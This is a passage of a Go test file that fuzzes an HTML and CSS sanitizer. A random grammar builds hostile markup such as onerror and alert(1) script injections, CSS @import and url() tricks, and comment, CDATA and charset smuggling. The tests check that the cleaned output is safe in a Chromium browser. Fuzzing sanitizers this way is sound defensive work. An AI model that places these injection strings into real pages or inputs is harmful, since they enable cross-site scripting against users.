			g.of("", "'", "\"", " ", "/**/", "&quot;", "&#39;") + g.address() + g.of("", "'", "\"", " ", "&quot;", "\n", "\\") + g.of(")", ")", ")", "", " 1x)", ")x")
	}
	return g.many(4, func() string {
		return g.of("", "", "}", "{", ";", "/*", "*/", "<!--", "-->", "@media x{", "@import ", "@\\69mport ", "@font-face{", "@property --x{", "p{", "*{", "*|*{", "&{", "\\", "'", "\"", "(", "[") +
			g.of("background:", "--x:", "src:", "x:", "behavior:", "content:", "mask:", "cursor:", "initial-value:", "") + g.of(u(), u(), u(), g.address(), "'"+g.address()+"'", "var(--x)", "attr(title)", "attr(title type(<url>))", u()+","+u()) +
			g.of(";", "}", "", "!important;", ";}", "\n")
	})
}

func (g grammar) attribute() string {
	n := g.of("src", "href", "style", "style", "srcset", "onerror", "onload", "title", "alt", "background", "xlink:href", "http-equiv", "content", "rel", "type", "class", "action", "formaction", "poster", "data", "ping", "id", "shadowrootmode", "popover",
		"xmlns", "encoding", "color", "data-x", "o:href", "v:src", "longdesc", "cite", "lowsrc", "name", "charset", "imagesrcset", "onfocus", "autofocus", "is", "slot")
	if g.IntN(12) == 0 {
		i := g.IntN(len(n))
		n = n[:i] + g.of("\x00", "/", "\"", "'", "<", "\u017f", "\x80") + n[i:]
	}
	v := g.of(g.address(), g.address(), g.css(), g.css(), "alert(1)", "refresh", "0;url="+g.address(), "stylesheet", "preload", "open", "text/html", "x", g.token(), "text/css", g.address()+" 1x, "+g.address()+" 2x", "-->", "</style>", "utf-7", "<img src=x onerror=alert(1)>")
	q := g.of("\"", "\"", "'", "", "`")
	return n + g.of("=", "=", "=", " = ", "\n=", "==", "") + q + v + g.of(q, q, q, q, "", "\"", "'")
}

func (g grammar) token() string {
	switch g.IntN(12) {
	case 0, 1, 2:
		return "<" + g.of("", "", "", "/", "!", "?", "<", "\x00") + g.name() + g.many(3, func() string { return g.blank() + g.attribute() }) + g.of(">", ">", ">", ">", "/>", "", " ", "\x00>")
	case 3, 4, 5:
		return "<" + g.name() + g.many(3, func() string { return " " + g.attribute() }) + ">"
	case 6:
		return "</" + g.name() + g.of(">", ">", " >", " x=y>", "/>", "")
	case 7:
		return g.of("<!--", "-->", "--!>", "<!-->", "<!--->", "<!--[if mso]>", "<![endif]-->", "<![endif]>", "<![if !mso]>", "<!--<![endif]-->", "<![CDATA[", "]]>", "<?xml:namespace ", "<!doctype html>", "<!doctype x [", "--", "<!")
	case 8:
		return "<style>" + g.css() + g.of("</style>", "</style>", "</style", "", "</style x>", "<\\/style>", "</STYLE/>")
	case 9:
		return g.of("&lt;", "&#60;", "&", "\x00", "\x1b$B", "\x1b(B", "\"", "'", "`", "<", ">", "=", "\x80", "\xc0", "\ufeff", "~{")
	default:
		return g.of("x", " ", "y\n", "alert(1)")
	}
}

// document returns a document.
func (g grammar) document() string { return g.token() + g.many(12, g.token) }

func TestGrammarIsMadeSafe(t *testing.T) {
	n := 4000
	if more, err := strconv.Atoi(os.Getenv("ASSAY_GENERATED")); err == nil {
		n = more
	}
	g := grammar{rand.New(rand.NewPCG(77, 1811))}
	for i := range n {
		src := []byte(g.document())
		for _, level := range []scan.Level{scan.Active, scan.Remote} {
			mustBeSafe(t, fmt.Sprintf("case %d %q", i, src), Clean(src, "utf-8", level, Options{}), "utf-8", level)
		}
	}
}

// TestChromiumGrammar is TestChromiumFuzz with the other grammar.
func TestChromiumGrammar(t *testing.T) {
	n, err := strconv.Atoi(os.Getenv("ASSAY_CHROMIUM_FUZZ"))
	if err != nil || n <= 0 {
		t.Skip("ASSAY_CHROMIUM_FUZZ is not set to a number of cases")
	}
	seed, err := strconv.ParseUint(os.Getenv("ASSAY_CHROMIUM_SEED"), 10, 64)
	if err != nil {
		seed = uint64(time.Now().UnixNano())
	}
	t.Logf("seed %d", seed)
	pages := map[scan.Level]*chromium.Page{scan.Active: startBrowser(t), scan.Remote: startBrowser(t)}
	for _, page := range pages {
		if err := page.Hold(batch); err != nil {
			t.Fatal(err)
		}
	}
	g := grammar{rand.New(rand.NewPCG(seed, 3))}
	for done := 0; done < n; done += batch {
		cases := make([]hostileCase, 0, batch)
		for i := range min(batch, n-done) {
			cases = append(cases, hostileCase{name: fmt.Sprintf("seed %d case %d", seed, done+i), src: []byte(g.document()), charset: "utf-8"})
		}
		for _, level := range []scan.Level{scan.Remote, scan.Active} {
			mustDoNothingRewritten(t, pages[level], cases, level)
		}
	}
}
